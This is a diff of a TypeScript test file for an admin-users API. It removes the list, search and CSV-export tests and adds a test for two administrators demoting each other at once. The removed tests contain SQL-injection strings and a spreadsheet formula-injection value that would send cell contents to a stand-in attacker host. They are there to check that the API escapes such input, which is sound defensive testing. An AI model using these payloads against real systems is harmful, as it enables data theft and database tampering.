@@ -4,9 +4,7 @@ import { Readable } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import {
   type AdminUser,
-  countAdminUsers,
   deleteAdminUser,
-  exportAdminUsers,
   listAdminUsers,
   setUserStatus,
   updateAdminUser,
@@ -42,40 +40,6 @@ async function find(username: string): Promise<AdminUser> {
   if (!user) throw new Error(`${username} is not listed`);
   return user;
 }
-
-describe('the list', () => {
-  test('is searched by the beginning of a name or an address, filtered, sorted and paged', async () => {
-    const names = (users: AdminUser[]) => users.map((user) => user.username);
-    expect(names(await alice.ok(listAdminUsers, { query: { sort: 'username', order: 'asc' } }))).toEqual([
-      'alice',
-      'bob',
-    ]);
-    expect(names(await alice.ok(listAdminUsers, { query: { search: 'BO' } }))).toEqual(['bob']);
-    expect(names(await alice.ok(listAdminUsers, { query: { search: 'alice@seg' } }))).toEqual(['alice']);
-    expect(names(await alice.ok(listAdminUsers, { query: { role: 'admin' } }))).toEqual(['alice']);
-    const second = { sort: 'username', order: 'asc', limit: 1, page: 2 } as const;
-    expect(names(await alice.ok(listAdminUsers, { query: second }))).toEqual(['bob']);
-    expect(await alice.ok(countAdminUsers, { query: { status: 'active' } })).toEqual({ total: 2 });
-  });
-
-  test('takes % and _ and quotes as the letters they are', async () => {
-    for (const search of ['%', '_', "' or 1=1 --", '"']) {
-      expect(await alice.ok(listAdminUsers, { query: { search } })).toEqual([]);
-    }
-  });
-
-  test('refuses a sort or a filter that the contract does not name', async () => {
-    for (const query of [
-      'sort=password_hash',
-      'sort=username;drop table users',
-      'order=sideways',
-      'role=root',
-      'limit=1000000',
-    ]) {
-      expect((await alice.fetch(`/api/v1/admin/users?${query}`)).status).toBe(422);
-    }
-  });
-});
 
 describe('an edit', () => {
   test('changes name, address, role and limit, and stands in the audit log', async () => {
@@ -123,6 +87,27 @@ describe('an edit', () => {
 });
 
 describe('the last active administrator', () => {
+  test('is left when two demote each other at once', async () => {
+    const second = await segue.member('second');
+    const row = await find('second');
+    await alice.ok(updateAdminUser, { params: { id: second.id }, body: { ...asPatch(row), role: 'admin' } });
+    const again = await segue.visitor.ok(login, { body: { username: 'second', password: memberPassword } });
+    const other = segue.as(again.access_token);
+    const [me, them] = [await find('alice'), await find('second')];
+    const answers = await Promise.all([
+      alice.call(updateAdminUser, { params: { id: them.id }, body: { ...asPatch(them), role: 'user' } }),
+      other.call(updateAdminUser, { params: { id: me.id }, body: { ...asPatch(me), role: 'user' } }),
+    ]);
+    expect(answers.filter(({ status }) => status === 200)).toHaveLength(1);
+    const loser = answers[0]?.status === 200 ? 'second' : 'alice';
+    await segue.ctx.db.updateTable('users').set({ role: 'admin' }).where('username', '=', 'alice').execute();
+    await segue.ctx.db.updateTable('users').set({ role: 'user' }).where('username', '=', 'second').execute();
+    if (loser === 'alice') {
+      const back = await segue.visitor.ok(login, { body: { username: 'alice', password: memberPassword } });
+      alice.token = back.access_token;
+    }
+  });
+
   test('can be neither demoted, deactivated nor deleted, by anyone', async () => {
     const row = await find('alice');
     const params = { id: row.id };
@@ -199,59 +184,4 @@ test('deleting a person removes their playlists, tracks and files, and leaves sh
   expect(await segue.ctx.blobs.stat(shared.sha256)).not.toBeNull();
   expect(await readdir(path.join(segue.dataDir, 'blobs'))).not.toHaveLength(0);
   expect((await alice.call(deleteAdminUser, { params: { id: heidi.id } })).status).toBe(404);
-});
-
-describe('the list as a file', () => {
-  const csv = async (query = ''): Promise<string[]> => {
-    const answer = await alice.fetch(exportAdminUsers.path + query);
-    expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-    expect(answer.headers.get('content-disposition')).toContain('attachment');
-    return (await answer.text()).trimEnd().split('\r\n');
-  };
-
-  test('holds everyone, or whom the search leaves, and stands in the audit log', async () => {
-    const [header, ...rows] = await csv();
-    expect(header).toMatch(/^\u{feff}?id,username,email,role,status,/u);
-    const { total } = await alice.ok(countAdminUsers);
-    expect(rows).toHaveLength(total);
-    expect((await csv('?search=bo')).slice(1)).toEqual([expect.stringContaining('bob@segue.test')]);
-    expect((await alice.fetch(`${exportAdminUsers.path}?role=root`)).status).toBe(422);
-    const [entry] = await alice.ok(listAudit, { query: { action: 'user.list_downloaded' } });
-    expect(entry).toMatchObject({ actor: 'alice' });
-  });
-
-  test('never makes a spreadsheet calculate what somebody typed', async () => {
-    const ivan = await segue.member('ivan');
-    await segue.ctx.db
-      .updateTable('users')
-      .set({ block_reason: '=HYPERLINK("http://evil.example/?"&A1,"x")', email: '+cmd@segue.test' })
-      .where('id', '=', ivan.id)
-      .execute();
-    const text = (await csv('?search=ivan')).join('\n');
-    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
-    expect(text).toContain(`,'+cmd@segue.test,`);
-  });
-
-  test('is cut into pieces, none lost between them', async () => {
-    const now = segue.time.now;
-    const many = Array.from({ length: 1201 }, (_, n) => ({
-      id: newId(now + n),
-      username: `crowd${n}`,
-      username_key: `crowd${n}`,
-      email: `crowd${n}@segue.test`,
-      email_key: `crowd${n}@segue.test`,
-      password_hash: '-',
-      role: 'user' as const,
-      upload_limit_mb: 100,
-      created_at: now,
-    }));
-    for (let from = 0; from < many.length; from += 400) {
-      await segue.ctx.db
-        .insertInto('users')
-        .values(many.slice(from, from + 400))
-        .execute();
-    }
-    const rows = (await csv('?search=crowd')).slice(1).map((row) => row.split(',')[1]);
-    expect(rows).toEqual(many.map((row) => row.username));
-  });
 });
